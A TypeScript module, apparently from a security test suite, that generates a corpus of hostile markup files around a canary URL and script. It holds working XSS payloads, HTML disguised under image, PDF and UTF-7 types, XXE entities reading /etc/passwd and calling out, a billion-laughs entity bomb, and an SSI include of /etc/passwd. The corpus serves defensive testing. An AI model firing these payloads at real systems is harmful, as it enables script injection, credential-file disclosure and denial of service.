import { type Canary, type Hostile, file, plain } from './hostile.ts'

/** A page that tries its script in every way, and asks for what lies elsewhere. */
export const page = ({ url, script }: Canary): string =>
  `<!doctype html><meta charset=utf-8><link rel=preconnect href="${url}"><link rel=stylesheet href="${url}/style">` +
  `<script>${script}</script><script src="${url}/src"></script>` +
  `<img src="${url}/image" onerror="${script}"><svg onload="${script}"></svg>` +
  `<input autofocus onfocus="${script}"><details open ontoggle="${script}">` +
  `<iframe srcdoc="<script>${script}</script>"></iframe><iframe src="javascript:${script}"></iframe>`

const utf16be = (text: string): Buffer => Buffer.from(`\uFEFF${text}`, 'utf16le').swap16()

/** HTML under the names, types and beginnings that make something take it for something else. */
function disguised(canary: Canary): Hostile[] {
  const html = page(canary)
  return [
    file('page.html', 'text/html', html),
    file('page.png', 'image/png', html),
    file('page.jpg', 'image/jpeg', html),
    file('page.gif', 'image/gif', html),
    file('page.pdf', 'application/pdf', html),
    file('page.txt', 'text/plain', html),
    file('page.mp4', 'video/mp4', html),
    file('page.css', 'text/css', html),
    file('page', '', html),
    file('utf-16-le.html', 'text/html; charset=utf-16', Buffer.from(`\uFEFF${html}`, 'utf16le')),
    file('utf-16-be.html', 'text/html', utf16be(html)),
    file('utf-8-mark.html', 'text/html', `\uFEFF${html}`),
    // UTF-7 knows its mark and its angle brackets; for everybody else it is text.
    file(
      'utf-7.html',
      'text/html; charset=utf-7',
      `+/v8-+ADw-script+AD4-${canary.script}+ADw-/script+AD4-`,
      plain,
    ),
    file('utf-7.txt', 'text/html', `<meta charset=utf-7>+ADw-script+AD4-${canary.script}`),
    file('blanks.html', 'text/html', `${'\n\t '.repeat(500)}${html}`),
    file('nul.html', 'text/html', `\0${html}`),
    file('escape.html', 'text/html', `\u001b$B${html}`, plain),
    file('comment.html', 'text/html', `<!-- ${'-'.repeat(900)} -->${html}`),
    // Looked at is how it begins: the rest is text for every browser too.
    file('late.html', 'text/html', `Dear friend,\n${'so it goes '.repeat(600)}\n${html}`, plain),
    file('binary.html', 'text/html', Buffer.concat([Buffer.from([1, 2, 255]), Buffer.from(html)])),
  ]
}

/** Pages that are none at first sight, as browsers and what comes with them open them. */
function wrapped({ url, script }: Canary): Hostile[] {
  const xhtml = `<html xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script><img src="${url}/x" onerror="${script}"/></html>`
  return [
    file('page.xhtml', 'application/xhtml+xml', xhtml),
    file('page.xml', 'text/xml', `<?xml version="1.0"?>${xhtml}`),
    file(
      'page.mht',
      'multipart/related',
      `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\nContent-Location: ${url}/\r\n\r\n<script>${script}</script>\r\n--x--`,
      plain,
    ),
    file(
      'page.hta',
      'application/hta',
      `<hta:application id=x><script>${script}</script><img src="${url}/x">`,
    ),
    file(
      'page.htc',
      'text/x-component',
      `<public:component><script>${script}</script></public:component>`,
    ),
    file(
      'formula.mml',
      'application/mathml+xml',
      `<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:${script}"><mtext><img src="${url}/x" onerror="${script}"></mtext></math>`,
    ),
    file(
      'page.shtml',
      'text/html',
      `<!--#include virtual="/etc/passwd" --><script>${script}</script>`,
    ),
    file(
      'away.html',
      'text/html',
      `<base href="${url}/"><meta http-equiv=refresh content="0;url=${url}/refresh"><a href=x ping="${url}/ping" autofocus>x</a><form action="${url}/form"><input type=submit></form><script>document.forms[0].submit();location='${url}'</script>`,
    ),
    file(
      'letter.eml',
      'message/rfc822',
      `From: a@example.org\r\nContent-Type: text/html\r\n\r\n<script>${script}</script><img src="${url}/x">`,
      plain,
    ),
    file(
      'subtitles.vtt',
      'text/vtt',
      `WEBVTT\n\nSTYLE\n::cue { background: url(${url}/cue) }\n\n00:00.000 --> 00:09.000\n<script>${script}</script><img src="${url}/x" onerror="${script}">\n`,
    ),
  ]
}

/** XML that fetches, that transforms itself into a page, or that grows without end. */
function xml({ url, script }: Canary): Hostile[] {
  const laughs = Array.from(
    { length: 9 },
    (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`,
  ).join('')
  return [
    file(
      'styled.xml',
      'text/xml',
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${url}/sheet"?><x/>`,
    ),
    file(
      'sheet.xsl',
      'text/xsl',
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script xmlns="http://www.w3.org/1999/xhtml">${script}</script><xsl:copy-of select="document('${url}/doc')"/></xsl:template></xsl:stylesheet>`,
    ),
    file(
      'laughs.xml',
      'application/xml',
      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">${laughs}]><x>&l9;</x>`,
    ),
    file(
      'entities.xml',
      'application/xml',
      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "${url}/entity">]><x>&a;&b;</x>`,
    ),
    file(
      'elsewhere.xml',
      'application/xml',
      `<?xml version="1.0"?><!DOCTYPE x SYSTEM "${url}/dtd"><x/>`,
    ),
    file(
      'feed.rss',
      'application/rss+xml',
      `<?xml version="1.0"?><rss version="2.0"><channel><title>&lt;script&gt;${script}&lt;/script&gt;</title><image><url>${url}/x</url></image></channel></rss>`,
    ),
  ]
}

export const markup = (canary: Canary): Hostile[] => [
  ...disguised(canary),
  ...wrapped(canary),
  ...xml(canary),
]
